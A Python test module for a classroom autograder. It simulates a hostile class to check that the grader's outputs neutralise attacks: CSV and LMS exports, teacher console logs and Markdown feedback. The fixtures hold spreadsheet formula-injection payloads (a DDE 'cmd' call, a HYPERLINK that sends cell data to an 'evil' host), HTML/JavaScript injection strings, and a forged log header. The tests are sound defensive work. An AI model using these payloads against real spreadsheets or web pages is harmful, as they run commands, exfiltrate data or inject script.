"""A whole class in the sandbox, as a teacher runs it and as a hostile class hands in: duplicates,
links to a classmate's file, an unassigned notebook, a notebook naming another exercise, a
classmate's copy, formula names, HTML in exceptions, a forged log header, folders not on the roster.
The totals and the CSV are checked row by row against what each student handed in; then one
student is re-graded (every other row stays as it was) and an override survives a re-grade.

Eight students, 03 (7 points) and 05 (3 points) assigned, nine notebooks graded (one sandbox run
each, plus the method runs), then two re-grades of one student each.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
from pathlib import Path

import nbformat
import pytest
from test_classroom import _cli  # the command as a teacher types it, in a process of its own

from simhash_lab._escape import FORMULA_STARTS
from simhash_lab.grading import checks
from simhash_lab.grading._notebooks import exercise_file

SECRET = "7e57ab1e" * 6
EXS = ["03_hamming_popcount", "05_block_index"]
NAMES = {  # the roster's display names: a class's names, some of them formulas
    "alice": "Alice",
    "bob": "=1+1",
    "carol": '\t=HYPERLINK("http://evil/?"&A1,"x")',
    "dave": "-2+3",
    "erin": "@SUM(A1:A9)",
    "frank": "Frank\r=cmd|' /C calc'!A0",
    "grace": "Grace",
    "heidi": "Heidi",
}
T0 = 1_800_000_000
EVIL = "[click](javascript:alert(1)) ![t](http://track.example/x.png) <b>bold</b>"
FORGED = "===== sandbox log: subs/bob/03_hamming_popcount.ipynb ====="


def _copy(src: Path, dest: Path, t: float = T0, edit: dict[str, str] | None = None) -> None:
    dest.parent.mkdir(parents=True, exist_ok=True)
    nb = nbformat.read(src, as_version=4)
    for c in nb.cells:
        key = c.metadata.get("simhash_lab", {}).get("answer")
        if edit and key in edit:
            c.source = edit[key]
    nbformat.write(nb, dest)
    os.utime(dest, (t, t))


def _csv(path: Path, bom: bool = False) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") == bom and raw.endswith(b"\r\n")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _plain(cell: str) -> str:
    """A cell as the class wrote it: the ``'`` the gradebook put before a formula taken off."""
    return cell[1:] if cell[:2] in {"'" + c for c in FORMULA_STARTS} else cell


@pytest.fixture(scope="module")
def week(kit, sandbox_ok, tmp_path_factory):
    d = tmp_path_factory.mktemp("week")
    with open(d / "roster.csv", "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["id", "name", "email", "sis_id"])
        for i, (sid, name) in enumerate(NAMES.items()):
            w.writerow([sid, name, f"{sid}@school.example", f"S{i:03d}"])
    (d / "secret.hex").write_text(SECRET)
    args = [
        "assign",
        str(kit.EXERCISES),
        "--roster",
        "roster.csv",
        "--out",
        "release",
        "--secret",
        "secret.hex",
    ]
    p = _cli([*args, *(x for e in EXS for x in ("--exercise", e))], d, kit)
    assert p.returncode == 0, p.stderr
    a = json.loads((d / "release/private/assignment.json").read_text())
    sol, hand = d / "release/private/solutions", d / "release/handout"
    s = d / "subs"
    # alice: both, and the repository's public solution of an exercise not assigned
    for e in EXS:
        _copy(sol / "alice" / exercise_file(e, "solution"), s / f"alice/{e}.ipynb")
    _copy(kit.solution("01_lsh_vs_crypto"), s / "alice/exercises/solutions/01_lsh_vs_crypto.ipynb")
    # bob: four copies of 03, the three older ones untouched stubs; an autosave copy
    for i, name in enumerate(
        ("03 (1).ipynb", "old/03_hamming_popcount.ipynb", ".hidden/03_hamming_popcount.ipynb")
    ):
        _copy(hand / "bob/03_exercise_hamming_popcount.ipynb", s / "bob" / name, T0 + i)
    _copy(sol / "bob/03_solution_hamming_popcount.ipynb", s / "bob/03_hamming_popcount.ipynb", T0 + 10)
    _copy(
        sol / "bob/03_solution_hamming_popcount.ipynb",
        s / "bob/.ipynb_checkpoints/03_hamming_popcount-checkpoint.ipynb",
    )
    _copy(sol / "bob/05_solution_block_index.ipynb", s / "bob/05_block_index.ipynb")
    # carol: her 03; her 05 a link to alice's
    _copy(sol / "carol/03_solution_hamming_popcount.ipynb", s / "carol/03_hamming_popcount.ipynb")
    (s / "carol/05_block_index.ipynb").symlink_to(s / "alice/05_block_index.ipynb")
    # dave: an old right 03 and a new one with Kernighan's loop counting one too many and is_near
    # returning a float (its teacher's hint quotes the hidden inputs): the new counts;
    # a "05" whose metadata names exercise 01
    _copy(sol / "dave/03_solution_hamming_popcount.ipynb", s / "dave/03_v1.ipynb", T0)
    kern = kit.solution_source("03_hamming_popcount", "popcount_kernighan").replace(
        "return count", "return count + 1"
    )
    near = kit.solution_source("03_hamming_popcount", "is_near").replace(
        "return count <= k", "return count * 1.0"
    )
    edit = {"popcount_kernighan": kern, "is_near": near}
    _copy(sol / "dave/03_solution_hamming_popcount.ipynb", s / "dave/03_v2.ipynb", T0 + 60, edit)
    _copy(kit.solution("01_lsh_vs_crypto"), s / "dave/05_block_index.ipynb")
    # erin: xor_AB prints a forged log header, then raises an exception whose type and message are HTML
    bad = f"print({FORGED!r})\nraise type('<img src=x onerror=alert(1)>', (Exception,), {{}})({EVIL!r})"
    _copy(
        sol / "erin/03_solution_hamming_popcount.ipynb",
        s / "erin/03_hamming_popcount.ipynb",
        edit={"xor_AB": bad},
    )
    # frank: his 03 under a formula's name
    _copy(sol / "frank/03_solution_hamming_popcount.ipynb", s / "frank/\r=HYPERLINK(1)+1.ipynb")
    # grace: nothing. heidi: alice's solved 03 (a classmate's variant)
    _copy(sol / "alice/03_solution_hamming_popcount.ipynb", s / "heidi/03_hamming_popcount.ipynb")
    # not on the roster, and loose
    _copy(sol / "alice/03_solution_hamming_popcount.ipynb", s / "\r=1+1/03_hamming_popcount.ipynb")
    _copy(sol / "alice/03_solution_hamming_popcount.ipynb", s / "mallory/03_hamming_popcount.ipynb")
    _copy(sol / "alice/03_solution_hamming_popcount.ipynb", s / "03_hamming_popcount.ipynb")
    outs = ["--csv", "grades.csv", "--canvas", "canvas.csv", "--moodle", "moodle.csv", "--feedback", "fb"]
    p = _cli(
        ["grade", "subs", "--assignment", "release", *outs, "--json", "grade.json", "--verbose", "-j", "2"],
        d,
        kit,
    )
    return d, a, p


def _expected(a) -> dict[str, dict[str, float]]:
    """What each student's work is worth, worked out from what they handed in."""
    full = {e: float(sum(x.points for x in checks.EXERCISES[e].answers)) for e in EXS}
    hand = _hand_credit(a, "alice", "heidi")  # heidi's 03 is alice's: her hand answers on alice's data
    return {
        "alice": {**full},
        "bob": {**full},
        "carol": {"03_hamming_popcount": 7, "05_block_index": 0},
        "dave": {"03_hamming_popcount": 3, "05_block_index": 0},
        "erin": {"03_hamming_popcount": 6, "05_block_index": 0},
        "frank": {"03_hamming_popcount": 7, "05_block_index": 0},
        "grace": {"03_hamming_popcount": 0, "05_block_index": 0},
        "heidi": {"03_hamming_popcount": 4 + hand, "05_block_index": 0},
    }


def _hand_credit(a, copied_from: str, student: str) -> float:
    e = "03_hamming_popcount"
    mine, theirs = (a["students"][s]["variants"][e] for s in (student, copied_from))
    total = 0.0
    for ans in (x for x in checks.EXERCISES[e].answers if getattr(x, "hand", None) is not None):
        want, got = ans.hand(mine), ans.hand(theirs)
        assert got != want, "the fixed secret's variants must differ here"
        total += ans.points * sum(got[n] == want[n] for n in ans.names) / len(ans.names)
    return round(total, 3)


def test_the_hostile_class_gets_the_right_totals_in_a_csv_a_spreadsheet_reads_as_text(week):
    d, a, p = week
    assert p.returncode == 1, p.stderr  # not everyone passed
    expected = _expected(a)
    rows = _csv(d / "grades.csv")
    header, body = rows[0], rows[1:]
    assert len(body) == len(NAMES) * 3  # a row per student and exercise, and a total: nobody else
    for row in rows:
        assert len(row) == len(header)
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or re.fullmatch(r"-?[\d.]+", cell), row
    got = {(r[0], r[4]): dict(zip(header, r)) for r in body}
    for sid, per in expected.items():
        for e, pts in per.items():
            r = got[(sid, e)]
            assert float(r["points"]) == pytest.approx(pts), (sid, e, r)
            assert float(r["max_points"]) == sum(x.points for x in checks.EXERCISES[e].answers)
            # the roster's name as read: its whitespace runs made one space (a tab or CR too)
            assert _plain(r["name"]) == " ".join(NAMES[sid].split()) and r["email"] == f"{sid}@school.example"
        total = got[(sid, "total")]
        assert float(total["points"]) == pytest.approx(sum(per.values())) and float(total["max_points"]) == 10
    assert got[("bob", "03_hamming_popcount")]["file"] == "03_hamming_popcount.ipynb"
    assert got[("bob", "03_hamming_popcount")]["not_counted"].count("an older copy") == 3
    assert (
        got[("carol", "05_block_index")]["status"] == "missing"
        and "symbolic link" in got[("carol", "05_block_index")]["not_counted"]
    )
    assert got[("heidi", "03_hamming_popcount")]["flag"] == "variant mismatch"
    assert _plain(got[("frank", "03_hamming_popcount")]["file"]) == "\r=HYPERLINK(1)+1.ipynb"
    # the LMS files: the same totals, matched by SIS id and email
    canvas = _csv(d / "canvas.csv", bom=True)
    assert canvas[1][:1] == ["Points Possible"] and canvas[1][5] == "10"
    assert {r[2]: float(r[5]) for r in canvas[2:]} == {
        f"S{i:03d}": pytest.approx(sum(expected[s].values())) for i, s in enumerate(NAMES)
    }
    moodle = _csv(d / "moodle.csv", bom=True)
    assert {r[1]: float(r[3]) for r in moodle[1:]} == {
        f"{s}@school.example": pytest.approx(sum(expected[s].values())) for s in NAMES
    }
    for table in (canvas, moodle):
        assert [_plain(r[0]) for r in table[-len(NAMES) :]] == [" ".join(n.split()) for n in NAMES.values()]


def test_the_teachers_table_lists_every_file_that_does_not_count_and_why(week):
    d, a, p = week
    out = p.stdout
    for line in (
        "old/03_hamming_popcount.ipynb: an older copy",
        ".ipynb_checkpoints/03_hamming_popcount-checkpoint.ipynb: a Jupyter autosave copy",
        "05_block_index.ipynb: a symbolic link",
        "exercises/solutions/01_lsh_vs_crypto.ipynb: 01_lsh_vs_crypto is not in this assignment",
        "05_block_index.ipynb: 01_lsh_vs_crypto is not in this assignment",
        "03_v1.ipynb: an older copy",
        "03_hamming_popcount.ipynb: its folder is not a student of the roster",
        "03_hamming_popcount.ipynb: not in a student's folder",
    ):
        assert line in out, line
    assert "\\r=1+1" in out and "\r" not in out and "mallory" in out
    assert re.search(r"^grace +total +0/10$", out, re.M)  # on the roster, no folder: in the table
    assert "9 notebooks graded for 9 student folders in " in out  # 7 of the roster's 8, and 2 not on it


def test_a_forged_log_header_stays_inside_its_own_section(week):
    d, a, p = week
    headers = [line for line in p.stdout.splitlines() if line.startswith("===== sandbox log:")]
    assert len(headers) == 9 and all(h.endswith(".ipynb =====") for h in headers)
    assert sum(h.startswith("===== sandbox log: subs/erin/") for h in headers) == 1
    assert headers.count(FORGED) == 1  # bob's own, not erin's print
    assert "  | " + FORGED in p.stdout


def test_feedback_is_escaped_names_each_answer_and_holds_no_hidden_value(week):
    d, a, p = week
    erin = (d / "fb/erin/03_hamming_popcount.md").read_text(encoding="utf-8")
    assert "❌ `xor_AB`" in erin and "raised" in erin
    for bad in ("<img", "<b>", "](", "![", "javascript:alert"):
        assert bad not in erin, bad
    assert "&lt;img src\\=x onerror\\=alert\\(1\\)&gt;" in erin
    bob = (d / "fb/bob/03_hamming_popcount.md").read_text(encoding="utf-8")
    assert bob.count("also handed in, not counted") == 4 and bob.count("an older copy") == 3
    assert "autosave" in bob and "not the notebook released" not in bob
    heidi = (d / "fb/heidi/03_hamming_popcount.md").read_text(encoding="utf-8")
    assert "not the variant released to you" in heidi
    carol = (d / "fb/carol/05_block_index.md").read_text(encoding="utf-8")
    assert "symbolic link" in carol and "0 of 3 points" in carol
    assert not (d / "fb/grace").exists() and not (d / "fb/mallory").exists()
    # the teacher's hints (--json) name hidden inputs and expected values; the student's file none
    dave = (d / "fb/dave/03_hamming_popcount.md").read_text(encoding="utf-8")
    doc = json.loads((d / "grade.json").read_text(encoding="utf-8"))
    mine = next(r for r in doc if r["path"].endswith("dave/03_v2.ipynb"))
    hidden = set()
    for c in mine["checks"]:
        if not c["passed"]:
            hidden |= set(re.findall(r"0x[0-9a-f]+|\d{2,}(?:\.\d+)?", c["hint"]))
    assert hidden, "the teacher's hints should hold the hidden values this test looks for"
    assert not hidden & set(re.findall(r"0x[0-9a-f]+|\d+(?:\.\d+)?", dave)), (hidden, dave, mine)
    assert "❌ `popcount_kernighan`" in dave and "❌ `is_near`" in dave and "03\\_v1\\.ipynb" in dave
    assert "(expected " not in dave and "(got " not in dave and "0x" not in dave


def test_re_grading_one_student_leaves_every_other_row_and_an_override_survives(week, kit):
    d, a, p = week
    before = _csv(d / "grades.csv")
    # dave fixes his 03 (a new, latest copy); the teacher re-grades his folder alone
    _copy(
        d / "release/private/solutions/dave/03_solution_hamming_popcount.ipynb",
        d / "subs/dave/03_v3.ipynb",
        T0 + 120,
    )
    q = _cli(["grade", "subs/dave", "--assignment", "release", "--csv", "grades.csv"], d, kit)
    assert q.returncode == 1 and "dave" in q.stdout and "alice" not in q.stdout, q.stdout + q.stderr
    # one student: "1 student folder", not "1 student folders"
    assert re.search(r"\b\d+ notebooks? graded for 1 student folder in ", q.stdout), q.stdout
    after = _csv(d / "grades.csv")
    assert [r for r in after if r[0] != "dave"] == [r for r in before if r[0] != "dave"]
    dave = {r[4]: r for r in after if r[0] == "dave"}
    assert float(dave["03_hamming_popcount"][6]) == 7 and float(dave["total"][6]) == 7
    # an override, then bob re-graded: it stays, and his feedback shows its comment, escaped
    o = _cli(
        [
            "override",
            "bob",
            "03",
            "5",
            "--comment",
            "copied <b>xor</b> [x](http://x)",
            "--assignment",
            "release",
        ],
        d,
        kit,
    )
    assert o.returncode == 0 and "bob 03_hamming_popcount: 7 -> 5 of 7" in o.stdout, o.stderr
    r = _cli(
        ["grade", "subs/bob", "--assignment", "release", "--csv", "grades.csv", "--feedback", "fb2"], d, kit
    )
    assert r.returncode == 0 and "override #1" in r.stdout, r.stdout + r.stderr
    final = {(x[0], x[4]): x for x in _csv(d / "grades.csv")}
    assert float(final[("bob", "03_hamming_popcount")][6]) == 5 and float(final[("bob", "total")][6]) == 8
    assert float(final[("dave", "total")][6]) == 7 and float(final[("alice", "total")][6]) == 10
    fb = (d / "fb2/bob/03_hamming_popcount.md").read_text(encoding="utf-8")
    assert (
        "Your teacher set this exercise to 5 points: copied &lt;b&gt;xor&lt;\\/b&gt;" in fb and "](" not in fb
    )
